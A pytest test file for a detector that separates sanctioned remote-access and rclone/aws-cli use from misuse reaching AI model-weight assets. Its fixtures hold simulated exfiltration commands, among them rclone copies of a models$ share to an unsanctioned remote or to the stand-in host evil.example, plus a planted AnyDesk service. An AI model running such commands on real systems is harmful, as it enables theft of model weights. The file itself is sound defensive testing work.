"""From hits to incidents, whole: what is raised, what stays quiet, what is shown and why."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace

import pytest

from detector.model.asset import Inventory
from detector.model.finding import Finding
from detector.model.hit import Hit
from detector.model.incident import Incident
from detector.model.level import Level
from detector.model.policy import Verdict
from detector.model.rule import Action, Phase
from detector.triage.tell import Setting, Telling
from tests.making import (
    CATALOGUE,
    DESK,
    INVENTORY,
    POLICY,
    POWERSHELL,
    SECURITY,
    SETTING,
    SYSMON,
    SYSTEM,
    T0,
    after,
    event,
    hit,
    logon,
    move_rule,
    process,
    rule,
    share_read,
    told,
)

NIGHT = after(12)  # 22:00 in Berlin
INTUNE = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe"
CELL = "C:\\Program Files (x86)\\AnyDesk-1234abcd\\AnyDesk-1234abcd.exe"
SERVICE = "NT AUTHORITY\\SYSTEM"
DESK_CLIENT = "C:\\Program Files (x86)\\ScreenConnect Client (00aa11bb22cc33dd)\\ScreenConnect.ClientService.exe"
JOB = (
    '"C:\\Program Files\\Kestrel\\rclone.exe" sync \\\\weights-1\\runs coldstore:runs'
    " --config C:\\ProgramData\\Kestrel\\nightly.conf --transfers 8"
)

INSTALL = rule("anydesk", Phase.INSTALL, Action.INSTALL)
CONNECT = rule("anydesk", Phase.SESSION, Action.CONNECT)
DESK_SESSION = rule("screenconnect", Phase.SESSION, Action.SESSION)
DESK_COMMAND = rule("screenconnect", Phase.COMMAND, Action.COMMAND)
DESK_CONNECT = rule("screenconnect", Phase.SESSION, Action.CONNECT)
COPY = rule("rclone", Phase.EXFILTRATION, Action.UPLOAD)
RUNNING = rule("rclone", Phase.TRANSFER, Action.CONNECT)
AWS = rule("aws-cli", Phase.EXFILTRATION, Action.UPLOAD)
LOGON, RDP, READ = move_rule("logon"), move_rule("rdp"), move_rule("smb", Phase.COLLECTION)


def connects(
    host: str, image: str, to: str, name: str, port: str = "443", *, guid: str = "{1}", user: str = SERVICE
) -> Hit:
    of = (
        RUNNING
        if image.endswith("rclone.exe")
        else AWS
        if "aws" in image
        else CONNECT
        if "AnyDesk" in image
        else DESK_CONNECT
    )
    shown = {
        "Image": image,
        "DestinationIp": to,
        "DestinationHostname": name,
        "DestinationPort": port,
        "ProcessGuid": guid,
    }
    when = NIGHT if image.endswith("rclone.exe") and host == "COPIER-1" else T0
    return hit(of, event(SYSMON, 3, host, when, Initiated="true", User=user, **shown))


def said(host: str, data: str, when: float = 0, instance: str = "00aa11bb22cc33dd") -> Hit:
    return hit(DESK_SESSION, event(f"ScreenConnect Client ({instance})", 100, host, after(when), Data=data))


def shell(host: str, command: str, when: float = 0) -> Hit:
    on = process(
        host, "C:\\Windows\\System32\\cmd.exe", command, "NT AUTHORITY\\SYSTEM", after(when), ParentImage=DESK_CLIENT
    )
    return hit(DESK_COMMAND, on)


def copies(
    command: str, host: str = "COPIER-1", user: str = "KESTREL\\svc.copy", guid: str = "{1}", of: object = COPY
) -> Hit:
    image = (
        "C:\\Program Files\\Kestrel\\rclone.exe" if "Kestrel" in command else "C:\\Users\\ada\\Downloads\\rclone.exe"
    )
    when = NIGHT if host == "COPIER-1" else T0
    assert of in (COPY, RUNNING)
    on = process(host, image, command, user, when, ProcessGuid=guid, OriginalFileName="rclone.exe")
    return hit(COPY if of is COPY else RUNNING, on)


#: Ordinary days with sanctioned tools: nothing may be raised, and each clause is named.
HONEST: dict[str, tuple[list[Hit], set[str]]] = {
    "the help desk at work": (
        [
            connects("KB-L001", DESK_CLIENT, "203.0.113.5", "support.kestrel.example", "8041"),
            said("KB-L001", "ivy Connected", 0.1),
            shell("KB-L001", "cmd.exe /c ipconfig /all", 0.2),
            said("KB-L001", "ivy Disconnected", 0.3),
        ],
        {"sc-desk"},
    ),
    "the help desk runs something about the registry server": (
        [said("KB-L001", "ivy Connected"), shell("KB-L001", "type infer-2.log")],
        {"sc-desk"},
    ),
    "a cell is set up by Intune": (
        [
            hit(
                INSTALL,
                process(
                    "CELL-3",
                    "C:\\Windows\\IMECache\\7\\AnyDesk-1234abcd.exe",
                    f'"C:\\Windows\\IMECache\\7\\AnyDesk-1234abcd.exe" --install "{CELL[:-24]}" --silent',
                    "NT AUTHORITY\\SYSTEM",
                    ParentImage=INTUNE,
                    Company="AnyDesk Software GmbH",
                ),
            ),
            hit(
                INSTALL,
                event(
                    SYSTEM,
                    7045,
                    "CELL-3",
                    after(seconds=9),
                    ServiceName="AnyDesk-1234abcd Service",
                    ImagePath=f'"{CELL}" --service',
                ),
            ),
            connects("CELL-3", CELL, "203.0.113.45", "relay-4e02c7d9.net.anydesk.example"),
        ],
        {"anydesk-cells"},
    ),
    "the nightly copy": (
        [
            copies(JOB),
            copies(JOB, of=RUNNING),
            connects(
                "COPIER-1",
                "C:\\Program Files\\Kestrel\\rclone.exe",
                "203.0.113.9",
                "objects.coldstore.example",
                user="KESTREL\\svc.copy",
            ),
            hit(READ, share_read("WEIGHTS-1", "192.0.2.20", "svc.copy", "runs", when=NIGHT)),
            hit(LOGON, logon("WEIGHTS-1", "192.0.2.20", "svc.copy", NIGHT)),
        ],
        {"rclone-nightly", "bulk-copy"},
    ),
    "open data is fetched": (
        [
            copies(
                "rclone.exe copy -P opendata:grasp-2k D:\\tune\\data\\grasp-2k --transfers 8", "KB-G012", "KESTREL\\ada"
            ),
            copies(
                "rclone.exe copy -P opendata:grasp-2k D:\\tune\\data\\grasp-2k", "KB-G012", "KESTREL\\ada", of=RUNNING
            ),
            connects(
                "KB-G012",
                "C:\\Users\\ada\\Downloads\\rclone.exe",
                "203.0.113.12",
                "mirror.opendata.example",
                user="KESTREL\\ada",
            ),
        ],
        {"rclone-open"},
    ),
    "a release": (
        [
            hit(
                AWS,
                process(
                    "COPIER-1",
                    "C:\\aws\\aws.exe",
                    "aws s3 cp D:\\rel s3://kestrel-releases/v1/ --recursive --endpoint-url https://s3.example",
                    "KESTREL\\svc.release",
                    ProcessGuid="{9}",
                ),
            ),
            connects(
                "COPIER-1", "C:\\aws\\aws.exe", "203.0.113.210", "s3.example", guid="{9}", user="KESTREL\\svc.release"
            ),
        ],
        {"aws-release"},
    ),
    "an administrator by the gate": (
        [
            hit(RDP, logon("HOP-1", "198.51.100.12", "ada", kind="10")),
            hit(RDP, logon("WEIGHTS-1", "192.0.2.8", "ada.adm", kind="10")),
        ],
        {"hop-in", "hop-out"},
    ),
}


@pytest.mark.parametrize("case", HONEST)
def test_ordinary_work_with_sanctioned_tools_raises_nothing(case: str) -> None:
    """'allowed: a clause covers it; kept and shown, never raises an incident above informational'."""
    hits, clauses = HONEST[case]
    telling = told(hits)
    assert telling.incidents == ()
    assert {finding.decision.policy for finding in telling.findings} == clauses
    assert {finding.decision.verdict for finding in telling.findings} == {Verdict.ALLOWED}


def test_all_honest_days_at_once_are_still_honest() -> None:
    assert told([one for hits, _ in HONEST.values() for one in hits]).incidents == ()


def evil(command: str, user: str = "KESTREL\\gale") -> Hit:
    return copies(command, user=user, guid="{2}")


#: The same machines and programs, misused: one key differs, and it goes to or from an asset.
ABUSE: dict[str, tuple[list[Hit], tuple[str, ...], tuple[str, ...]]] = {
    "the job's program by another account": ([copies(JOB), evil(JOB)], ("COPIER-1",), ("WEIGHTS-1",)),
    "its account, another share": (
        [copies(JOB), evil(JOB.replace("\\runs", "\\models$"), "KESTREL\\svc.copy")],
        ("COPIER-1",),
        ("WEIGHTS-1",),
    ),
    "its account, another remote": (
        [copies(JOB), evil(JOB.replace("coldstore:", "sx:"), "KESTREL\\svc.copy")],
        ("COPIER-1",),
        ("WEIGHTS-1",),
    ),
    "its account, the remote led elsewhere": (
        [evil(JOB.replace("coldstore:", "coldstore,endpoint=evil.example:"), "KESTREL\\svc.copy")],
        ("COPIER-1",),
        ("WEIGHTS-1",),
    ),
    "switches before the source": (
        [evil("rclone copy --s3-upload-concurrency 8 --fast-list \\\\?\\UNC\\strongroom\\models$ sx:w")],
        ("COPIER-1",),
        ("WEIGHTS-1",),
    ),
    "a desk's own models go out": (
        [copies("rclone.exe copy D:\\tune\\aurora opendata:x", "KB-G012", "KESTREL\\ada")],
        ("KB-G012",),
        ("KB-G012",),
    ),
    "both ways": (
        [copies("rclone.exe bisync opendata:x D:\\tune\\aurora", "KB-G012", "KESTREL\\ada")],
        ("KB-G012",),
        ("KB-G012",),
    ),
    "the help desk's tool at an asset's share": (
        [said("KB-L001", "ivy Connected"), shell("KB-L001", "cmd /c dir \\\\weights-1\\models$", 0.1)],
        ("KB-L001",),
        ("WEIGHTS-1",),
    ),
    "a foreign tenant": (
        [
            said("KB-L001", "ivy Connected", instance="ffff000011112222"),
            hit(LOGON, logon("WEIGHTS-1", "198.51.100.11", "ada", after(1))),
        ],
        ("KB-L001",),
        ("WEIGHTS-1",),
    ),
    "let in on the asset itself": (
        [hit(INSTALL, event(SYSTEM, 7045, "INFER-2", ImagePath='"C:\\Windows\\Temp\\AnyDesk.exe" --service'))],
        ("INFER-2",),
        ("INFER-2",),
    ),
}


def incident(hits: Sequence[Hit], setting: Setting = SETTING) -> Incident:
    (found,) = told(hits, setting).incidents
    return found


@pytest.mark.parametrize("case", ABUSE)
def test_misuse_that_touches_an_asset_is_high_and_names_it(case: str) -> None:
    """'What matters is the chain that reaches an AI asset, and an incident tells it.'"""
    hits, origins, assets = ABUSE[case]
    found = incident(hits)
    assert (found.origins, found.assets, found.level >= Level.HIGH) == (origins, assets, True)


@pytest.mark.parametrize("case", ABUSE)
def test_honest_days_beside_it_change_nothing(case: str) -> None:
    """Scenarios: '`E*` events merged into a `D*` stream must change neither result.'"""
    hits, origins, assets = ABUSE[case]
    others = [one for honest, _ in HONEST.values() for one in honest]
    raised = [one for one in told([*others, *hits]).incidents if one.level > Level.INFORMATIONAL]
    assert [(one.origins, one.assets) for one in raised] == [(origins, assets)]


def by_rule(findings: Sequence[Finding], name: str) -> Finding:
    (found,) = [one for one in findings if one.rule.id == name]
    return found


def test_a_sanctioned_run_beside_a_stolen_one_stays_allowed_and_out_of_its_story() -> None:
    telling = told([copies(JOB), evil(JOB.replace("\\runs", "\\models$"))])
    verdicts = {finding.user: finding.decision.verdict for finding in telling.findings}
    assert verdicts == {"KESTREL\\svc.copy": Verdict.ALLOWED, "KESTREL\\gale": Verdict.UNSANCTIONED}
    (found,) = telling.incidents
    assert len(found.findings) == 1


def test_a_foreign_tool_alone_is_medium() -> None:
    found = incident(
        [hit(INSTALL, event(SYSTEM, 7045, "KB-L001", ImagePath='"C:\\ProgramData\\x\\AnyDesk.exe" --service'))]
    )
    assert (found.level, found.assets, found.origins) == (Level.MEDIUM, (), ("KB-L001",))
    assert "no way from there to an AI asset was seen in these logs" in found.reasons


def test_a_tool_the_policy_does_not_know_is_reported() -> None:
    """Rule 5: 'What no entry covers is reported. There is no deny list to keep up to date.'"""
    other = rule("teamviewer", Phase.SESSION, Action.SESSION)
    found = incident([hit(other, process("KB-L001", "C:\\TeamViewer.exe", "TeamViewer.exe"))])
    assert (found.level, found.tools) == (Level.MEDIUM, ("teamviewer",))
    assert any("the policy says nothing about TeamViewer" in reason for reason in found.reasons)


def test_a_use_that_shows_too_little_raises_nothing_alone_and_is_kept() -> None:
    telling = told([hit(DESK_SESSION, process("KB-L001", DESK_CLIENT, "x"))])
    assert telling.incidents == ()
    assert telling.findings[0].decision.undecided == ("operators",)


def test_without_a_policy_every_use_is_told_and_says_so() -> None:
    hits, _ = HONEST["the help desk at work"]
    telling = told(hits, Setting(INVENTORY, None, CATALOGUE))
    (found,) = telling.incidents
    assert {finding.decision.verdict for finding in telling.findings} == {Verdict.UNKNOWN}
    assert found.level <= Level.MEDIUM
    assert "no policy was given (--policy): sanctioned use cannot be told apart" in found.reasons


def test_without_an_inventory_it_says_that_assets_cannot_be_told() -> None:
    hits, *_ = ABUSE["a foreign tenant"]
    found = incident(hits, Setting(Inventory(), POLICY, CATALOGUE))
    assert (found.assets, found.level) == ((), Level.MEDIUM)
    assert "no inventory was given (--assets): whether an AI asset was reached cannot be said" in found.reasons


def test_nothing_found_tells_nothing() -> None:
    assert told([]) == Telling((), ())


def test_movement_without_a_tool_is_no_incident() -> None:
    """An unexpected way to an asset is shown with its verdict, and raises nothing: no remote tool was involved."""
    telling = told([hit(RDP, logon("WEIGHTS-1", "198.51.100.12", "gale", kind="10"))])
    assert telling.incidents == ()
    assert [(one.asset, one.decision.verdict) for one in telling.findings] == [("WEIGHTS-1", Verdict.UNSANCTIONED)]


def test_ordinary_logons_elsewhere_are_not_even_told() -> None:
    assert told([hit(LOGON, logon("FILES-1", "198.51.100.12", "gale"))]).findings == ()


def test_what_is_done_in_other_hands_is_told_around_it_and_else_not() -> None:
    recon = rule(phase=Phase.DISCOVERY, role=move_rule().role)
    who = [
        hit(recon, process(host, "C:\\Windows\\System32\\whoami.exe", "whoami", when=after(1)))
        for host in ("KB-L001", "KB-L002")
    ]
    foreign = hit(INSTALL, event(SYSTEM, 7045, "KB-L001", ImagePath='"C:\\ProgramData\\x\\AnyDesk.exe" --service'))
    telling = told([foreign, *who])
    assert [one.host for one in telling.findings] == ["KB-L001", "KB-L001"]
    assert len(telling.incidents[0].findings) == 2


def test_a_tool_allowed_on_an_asset_is_no_reach_of_it() -> None:
    """Rule 3 is about *reaching*: a machine of the inventory on which a clause allows the tool is not reached by it."""
    policy = replace(POLICY, tools=(replace(DESK, hosts=("KB-G???",)),))
    hits = [said("KB-G012", "ivy Connected"), shell("KB-G012", "whoami", 0.1)]
    assert told(hits, Setting(INVENTORY, policy, CATALOGUE)).incidents == ()
    assert incident(hits).assets == ("KB-G012",)


def test_a_script_of_the_tool_that_names_an_asset() -> None:
    script = rule("screenconnect", Phase.COMMAND, Action.COMMAND, name="script")
    on = event(POWERSHELL, 4104, "KB-L001", ScriptBlockText="Enter-PSSession weights-1\r\ndir M:\\models")
    assert incident([hit(script, on), said("KB-L001", "ivy Connected")]).assets == ("WEIGHTS-1",)


def test_the_way_in_and_the_way_out_are_edges() -> None:
    hits = [said("COPIER-1", "eve Connected", 11, "ffff000011112222"), evil(JOB.replace("coldstore:", "sx:"))]
    found = incident(hits)
    assert [(edge.origin, edge.target, edge.via) for edge in found.edges] == [
        ("internet", "COPIER-1", "screenconnect"),
        ("COPIER-1", "WEIGHTS-1", "smb"),
        ("COPIER-1", "internet", "rclone"),
    ]
    assert found.tools == ("rclone", "screenconnect")


def test_refs_fields_and_counts_of_a_finding() -> None:
    many = [
        hit(
            CONNECT,
            event(
                SYSMON, 3, "KB-L001", after(seconds=one), Image="C:\\AnyDesk.exe", User="-", DestinationIp="203.0.113.4"
            ),
        )
        for one in range(40)
    ]
    (finding,) = told(many).findings
    assert (finding.count, len(finding.refs), finding.time, finding.user) == (40, 12, T0, "")
    assert finding.fields == {"Image": "C:\\AnyDesk.exe", "DestinationIp": "203.0.113.4"}
    (found,) = told(many).incidents
    assert found.last_seen == after(seconds=39)


@pytest.mark.parametrize(
    ("number", "fields", "user"),
    [
        (4624, {"TargetUserName": "ada", "SubjectUserName": "-"}, "ada"),
        (4648, {"TargetUserName": "ada.adm", "SubjectUserName": "ada"}, "ada.adm"),
        (5145, {"SubjectUserName": "ada"}, "ada"),
        (4697, {"SubjectUserName": "-"}, ""),
    ],
)
def test_whose_act_a_finding_is(number: int, fields: dict[str, str], user: str) -> None:
    (finding,) = told([hit(INSTALL, event(SECURITY, number, "KB-L001", T0, **fields))]).findings
    assert finding.user == user


def test_the_same_event_by_two_rules_is_two_findings_of_one_story() -> None:
    other = rule("anydesk", Phase.UNATTENDED_ACCESS, Action.SESSION, level=Level.HIGH)
    on = process("KB-L001", "C:\\AnyDesk.exe", "AnyDesk.exe --set-password")
    telling = told([hit(INSTALL, on), hit(other, on)])
    assert len(telling.findings) == len(telling.incidents[0].findings) == 2
    assert by_rule(telling.findings, other.id).id != by_rule(telling.findings, INSTALL.id).id
